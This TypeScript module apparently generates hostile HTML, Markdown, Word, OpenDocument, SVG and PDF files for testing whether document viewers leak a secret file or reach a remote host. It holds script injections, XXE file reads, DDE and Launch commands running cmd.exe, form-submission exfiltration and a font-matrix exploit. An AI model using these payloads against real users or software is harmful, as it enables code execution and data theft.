import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import type { HostilePayload } from './hostile-content';

/** Where hostile documents try to reach, and a file of this computer that none of them may read. */
export interface Targets {
  /** An address at which somebody listens. */
  readonly remote: string;
  /** An absolute path. */
  readonly secretFile: string;
}

export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** How many different things it tries. */
  readonly payloads: number;
}

const script = 'hostileEffect=1;app.alert(1)';

/** Ends whatever a text left open, so that the next one is read too. */
const endOfAll = `"'>-->${'style title textarea xmp script iframe noembed noscript template select svg math table a b p div'.replace(/\w+/g, '</$&>').replaceAll(' ', '')}`;

/**
 * Texts as HTML and Markdown files, so many in each that every viewer is opened a few times and all are read. Without control characters: with them a file is no text, and nothing is
 * shown; without what swallows the rest of a page.
 */
export function hostileTexts(payloads: readonly HostilePayload[], perFile: number): readonly HostileFile[] {
  return (['html', 'markdown'] as const).flatMap((kind) => {
    const own = payloads.filter((payload) => payload.kind === kind && !/plaintext/i.test(payload.text));
    return Array.from({ length: Math.ceil(own.length / perFile) }, (_, i) => {
      const part = own.slice(i * perFile, (i + 1) * perFile);
      const texts = part.map(({ text }) => text.replace(/[\u0000-\u0008\u000e-\u001f]/g, ''));
      const body = texts.join(`${endOfAll}\n\nverder\n\n`);
      const [start, name] = kind === 'html' ? ['<!doctype html><title>x</title><h1>Kop</h1>', 'html'] : ['# Kop', 'md'];
      return { name: `tekst-${i}.${name}`, bytes: Buffer.from(`${start}\n\n${body}`), payloads: part.length };
    });
  });
}

const officeRelations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const outside = (type: string, target: string, id: string): string =>
  `<Relationship Id="${id}" Type="${officeRelations}/${type}" Target="${attribute(target)}" TargetMode="External"/>`;
const relationTypes =
  'image hyperlink attachedTemplate oleObject subDocument frame aFChunk video audio font mailMergeSource externalLink package control customXml webSettings stylesWithEffects'.split(
    ' ',
  );

/** A Word file that links to, includes and asks for what is outside it, in every way of its own that is known to have worked somewhere. */
export function hostileDocx({ remote, secretFile }: Targets): HostileFile {
  const addresses = [
    remote,
    remote.replace(/^https?:\/\//, '\\\\'),
    `file://${secretFile}`,
    secretFile,
    `../../../../../../../..${secretFile}`,
    `javascript:${script}`,
    `data:text/html,<script>${script}</script>`,
    `mhtml:${remote}!x-usc:${remote}`,
  ];
  const links = relationTypes.flatMap((type) => addresses.map((address) => ({ type, address })));
  const shown = links.map(({ type }, i) => usedAs(type, `rId${i}`)).join('');
  const fields = [
    `INCLUDEPICTURE "${remote}.png" \\d`,
    `INCLUDETEXT "${secretFile}"`,
    `DDEAUTO cmd "/c calc"`,
    `HYPERLINK "javascript:${script}"`,
    `IMPORT "${remote}"`,
    `RD "${secretFile}"`,
    `LINK Excel.Sheet "${secretFile}" a`,
  ].map((code) => `<w:p><w:fldSimple w:instr="${attribute(code)}"><w:r><w:t>veld</w:t></w:r></w:fldSimple></w:p>`);
  return {
    name: 'brief.docx',
    payloads: links.length + fields.length + 2,
    bytes: docxOf({
      'word/document.xml':
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${officeRelations}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ` +
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
        `<w:body><w:p><w:r><w:t>Een gewone brief</w:t></w:r></w:p>${shown}${fields.join('')}</w:body></w:document>`,
      'word/_rels/document.xml.rels': relations(links.map(({ type, address }, i) => outside(type, address, `rId${i}`))),
      'word/_rels/settings.xml.rels': relations([outside('attachedTemplate', `${remote}.dotm`, 'rId1')]),
      'word/chunk.html': `<script>${script}</script><img src="${remote}.png">`,
    }),
  };
}

/** A Word file with these parts beside those that every one has. */
function docxOf(parts: Readonly<Record<string, string>>): Uint8Array {
  const all = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    '_rels/.rels': relations([
      `<Relationship Id="rId1" Type="${officeRelations}/officeDocument" Target="word/document.xml"/>`,
    ]),
    ...parts,
  };
  return zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)])));
}

function usedAs(type: string, id: string): string {
  const run = '<w:r><w:t>tekst</w:t></w:r>';
  if (type === 'hyperlink') return `<w:p><w:hyperlink r:id="${id}">${run}</w:hyperlink></w:p>`;
  if (type === 'aFChunk') return `<w:altChunk r:id="${id}"/>`;
  if (type === 'subDocument') return `<w:subDoc r:id="${id}"/>`;
  if (type === 'oleObject') return `<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="${id}"/></w:object></w:r></w:p>`;
  const picture = `<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>`;
  return `<w:p><w:r><w:drawing><wp:inline>${picture}</wp:inline></w:drawing><w:pict><v:shape><v:imagedata r:id="${id}" o:href="${id}"/></v:shape></w:pict></w:r></w:p>`;
}

/** The same for OpenDocument. */
export function hostileOdt({ remote, secretFile }: Targets): HostileFile {
  const addresses = [
    remote,
    `file://${secretFile}`,
    `../../../..${secretFile}`,
    `javascript:${script}`,
    `vnd.sun.star.script:x`,
  ];
  const uses = addresses.flatMap((address) => {
    const link = `xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="${attribute(address)}"`;
    return [
      `<text:p><text:a ${link}>link</text:a></text:p>`,
      `<text:p><draw:frame><draw:image ${link}/></draw:frame></text:p>`,
      `<text:p><draw:frame><draw:object ${link}/></draw:frame></text:p>`,
      `<text:p><draw:frame><draw:plugin ${link}/></draw:frame></text:p>`,
      `<text:p><draw:frame><draw:floating-frame ${link}/></draw:frame></text:p>`,
      `<text:section><text:section-source ${link}/></text:section>`,
      `<office:scripts><script:event-listener script:event-name="dom:load" ${link}/></office:scripts>`,
    ];
  });
  const content =
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">' +
    `<office:body><office:text><text:h text:outline-level="1">Kop</text:h>${uses.join('')}</office:text></office:body></office:document-content>`;
  return {
    name: 'brief.odt',
    payloads: uses.length,
    bytes: zipSync({
      mimetype: strToU8('application/vnd.oasis.opendocument.text'),
      'META-INF/manifest.xml': strToU8(
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>',
      ),
      'content.xml': strToU8(content),
    }),
  };
}

/** Pictures that are programs. */
export function hostileSvgs({ remote, secretFile }: Targets): readonly HostileFile[] {
  const inside = [
    `<script>${script}</script>`,
    `<script href="${remote}.js"/>`,
    `<image href="${remote}.png" width="9" height="9"/>`,
    `<image href="file://${secretFile}" width="9" height="9"/>`,
    `<use href="${remote}.svg#x"/>`,
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${remote}"/></foreignObject>`,
    `<a href="javascript:${script}"><text y="9">x</text></a>`,
    `<animate onbegin="${script}" attributeName="x" dur="1s"/>`,
    `<style>@import url("${remote}.css");</style>`,
    `<feImage href="${remote}.png"/>`,
  ];
  const svg = (start: string, body: string): Uint8Array =>
    Buffer.from(`${start}<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${body}</svg>`);
  return [
    { name: 'plaat.svg', bytes: svg('', inside.join('')), payloads: inside.length + 1 },
    {
      name: 'plaat-xml.svg',
      bytes: svg(`<?xml version="1.0"?><?xml-stylesheet href="${remote}.xsl"?>`, inside.join('')),
      payloads: 2,
    },
    {
      name: 'plaat-entiteit.svg',
      bytes: svg(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secretFile}">]>`, '<text y="9">&x;</text>'),
      payloads: 1,
    },
    { name: 'plaat.html', bytes: svg('<!doctype html>', inside.join('')), payloads: inside.length },
  ];
}

/** What a PDF can be asked to do. */
function pdfActions({ remote, secretFile }: Targets): readonly string[] {
  const js = `(${script};this.submitForm\\('${remote}'\\);app.launchURL\\('${remote}'\\))`;
  return [
    `<< /S /JavaScript /JS ${js} >>`,
    `<< /S /URI /URI (${remote}) >>`,
    `<< /S /URI /URI (javascript:${script}) >>`,
    `<< /S /URI /URI (file://${secretFile}) >>`,
    `<< /S /Launch /F (${secretFile}) /Win << /F (cmd.exe) /P (/c calc) >> >>`,
    `<< /S /GoToR /F << /FS /URL /F (${remote}) >> /D [0 /Fit] >>`,
    `<< /S /GoToE /F (${secretFile}) /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${remote}) >> /Flags 4 >>`,
    `<< /S /ImportData /F << /FS /URL /F (${remote}) >> >>`,
    `<< /S /Rendition /JS ${js} /OP 0 >>`,
    `<< /S /Named /N /Print /Next << /S /JavaScript /JS ${js} >> >>`,
    `<< /S /Thread /F << /FS /URL /F (${remote}) >> /D 0 >>`,
  ];
}

/** One PDF for each of the first `count` actions: that one when it opens, and all of them at every other place where an action may stand. */
export function hostilePdfs(targets: Targets, count: number): readonly HostileFile[] {
  const actions = pdfActions(targets);
  return actions.slice(0, count).map((opening, i) => {
    const bytes = pdfOf(opening, actions, targets);
    return { name: `formulier-${i}.pdf`, bytes, payloads: i === 0 ? 3 * actions.length + 5 : 1 };
  });
}

function pdfOf(opening: string, actions: readonly string[], { remote }: Targets): Uint8Array {
  const triggers = 'E X D U Fo Bl PO PC PV PI'.split(' ');
  const first = 10;
  const annotations = actions.flatMap((action, i) => [
    `<< /Type /Annot /Subtype /Link /Rect [0 ${i * 20} 300 ${i * 20 + 18}] /A ${action} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (veld${i}) /Rect [300 ${i * 20} 600 ${i * 20 + 18}] /AA << /${triggers[i % triggers.length]} ${action} >> >>`,
  ]);
  annotations.push(
    `<< /Type /Annot /Subtype /FreeText /Rect [0 300 300 320] /Contents (<img src=x onerror="${script}">) /RC (<body><p><img src="${remote}.png" onerror="${script}"/></p></body>) >>`,
    `<< /Type /Annot /Subtype /RichMedia /Rect [0 320 300 340] /RichMediaContent << /Assets << /Names [(x) << /FS /URL /F (${remote}.swf) >>] >> >> >>`,
    `<< /Type /Annot /Subtype /Text /Rect [0 340 20 360] /T (<script>${script}</script>) /Contents (<svg onload=${script}>) >>`,
  );
  const references = annotations.map((_, i) => `${first + i} 0 R`).join(' ');
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event></subform></template></xdp:xdp>`;
  const content = deflateSync('BT /F1 12 Tf 20 400 Td (Een gewoon formulier) Tj ET');
  return pdfFile([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${opening} /AA << /WC ${actions[0]} /DP ${actions[0]} >> /Names << /JavaScript << /Names [(a) ${actions[0]}] >> >> /Outlines 6 0 R /AcroForm << /Fields [${references}] /XFA 8 0 R /NeedAppearances true >> /URI << /Base (${remote}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 420] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 9 0 R >> >> /Annots [${references}] /AA << /O ${actions[0]} /C ${actions[0]} >> >>`,
    stream('/Filter /FlateDecode', content),
    // A matrix that holds a text: what CVE-2024-4367 put into the code that drew letters.
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); ${script}//)] >>`,
    '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>',
    `<< /Title (<img src=x onerror=${script}>) /Parent 6 0 R /A ${actions[2]} >>`,
    stream('', Buffer.from(xfa)),
    stream(`/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${remote}.png) >>`, Buffer.alloc(0)),
    ...annotations,
  ]);
}

function stream(entries: string, bytes: Uint8Array): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

/** A PDF of these objects, numbered from 1; the first is its catalogue. */
export function pdfFile(objects: readonly (string | Uint8Array)[]): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')];
  let [size, places] = [9, '0000000000 65535 f \n'];
  objects.forEach((object, i) => {
    places += `${String(size).padStart(10, '0')} 00000 n \n`;
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    size += part.length;
  });
  const count = objects.length + 1;
  parts.push(
    Buffer.from(`xref\n0 ${count}\n${places}trailer << /Size ${count} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

function relations(lines: readonly string[]): string {
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;
}

function attribute(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
}
